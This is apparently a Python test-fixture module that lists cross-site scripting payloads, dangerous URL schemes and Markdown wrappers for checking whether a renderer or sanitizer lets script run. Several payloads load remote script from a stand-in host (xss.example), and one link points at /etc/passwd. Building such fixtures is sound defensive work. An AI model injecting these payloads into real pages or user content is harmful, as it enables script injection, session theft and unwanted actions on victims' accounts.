"""Texts that have run scripts in the pages of others, in the forms in which models, files and people may write them.

Each line of `SCRIPTS` would run where HTML is passed on; `LINKS` are addresses that act; `in_markdown` puts an address
into every place that Markdown has for one. Texts of this corpus call `alert`, `xss` or `javascript:`, so that a page
that runs one can be caught in the act.
"""

from collections.abc import Iterator

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//xss.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script type=module>import('//xss.example')</script>",
    "<script>/*<!--*/alert(1)//--></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<img src=x\x00 onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=jav&#x09;ascript:alert(1)>",
    "<img srcset=x onerror=alert(1)>",
    "<img src onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<iframe onload=alert(1)>",
    "<frameset onload=alert(1)>",
    "<frame src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<applet code=xss></applet>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<html onmouseover=alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<base href=//xss.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=//xss.example>",
    "<link rel=prefetch href=//xss.example onload=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>@import '//xss.example/x.css'</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=position:fixed;inset:0>over the page</div>",
    "<p style=-moz-binding:url(//xss.example)>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<audio autoplay src=x oncanplay=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//xss.example></layer>",
    "<xss onmouseover=alert(1) tabindex=1>x</xss>",
    "<xss contenteditable onblur=alert(1) tabindex=1>x",
    "<x onclick=alert(1)>x",
    "<x onpointerenter=alert(1)>x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href='https://a.example' onmouseover=alert(1)>x</a>",
    "<a ping=//xss.example href=#>x</a>",
    "<a target=_self href=/web/logout>x</a>",
    "<a id=csrf name=csrf>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE x [<!ENTITY xss 'alert(1)'>]>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<table><td><script>alert(1)</script></table>",
    "<ul><li style=list-style:url(javascript:alert(1))>x</ul>",
    "'\"><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onmouseover=alert(1) `",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "</p></div><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "<portal src=javascript:alert(1)>",
    "<object data=x type=text/html onerror=alert(1)>",
    "<div onwheel=alert(1) hidden=until-found onbeforematch=alert(1)>x</div>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>",
    "<a is=x-y href=//xss.example>x</a>",
    "<goclaw-app onclick=alert(1)></goclaw-app>",
    "<slot onslotchange=alert(1)>",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://a.example/%0aalert(1)",
    "javascript:/*a.example*/alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "blob:https://a.example/1",
    "file:///etc/passwd",
    "filesystem:https://a.example/x",
    "about:blank",
    "view-source:https://a.example",
    "intent://a.example#Intent;scheme=javascript;end",
    "ms-word:ofe|u|https://xss.example",
    "//xss.example",
    "/web/logout",
    "../api/v1/devices",
    "?link=AAAA-BBBB",
    "#link=AAAA-BBBB",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><script>alert(1)</script>",
    "https://a.example/?x=<script>alert(1)</script>",
    "mailto:a@a.example?subject=<script>alert(1)</script>",
    "https:javascript:alert(1)",
    "http:\\\\xss.example",
    "https://a.example\x00javascript:alert(1)",
)


def in_markdown(address: str) -> Iterator[str]:
    """An address in every place that Markdown has for one."""
    yield f"[words]({address})"
    yield f"[words](<{address}>)"
    yield f'[words]({address} "title")'
    yield f'[words](https://a.example "{address}")'
    yield f"![picture]({address})"
    yield f"[![picture]({address})]({address})"
    yield f"<{address}>"
    yield f"[words][ref]\n\n[ref]: {address}"
    yield address


def hostile_texts() -> Iterator[str]:
    """All of them, each once."""
    seen = set[str]()
    for text in _all():
        if text not in seen:
            seen.add(text)
            yield text


def _all() -> Iterator[str]:
    yield from SCRIPTS
    for address in LINKS:
        yield from in_markdown(address)
    for script in SCRIPTS:
        yield f"- item {script}\n\n> quoted {script}\n\n# {script}"
        yield f"```\n{script}\n```"
        yield f"```html\n{script}\n```\n\n    {script}"
        yield f"```{script}\ncode\n```"
        yield f"`{script}` **{script}** ~~{script}~~"
        yield f"| {script} | b |\n|:--|--:|\n| {script} | `{script}` |"
        yield f'[{script}](https://a.example "{script}") ![{script}](https://a.example/p.png)'
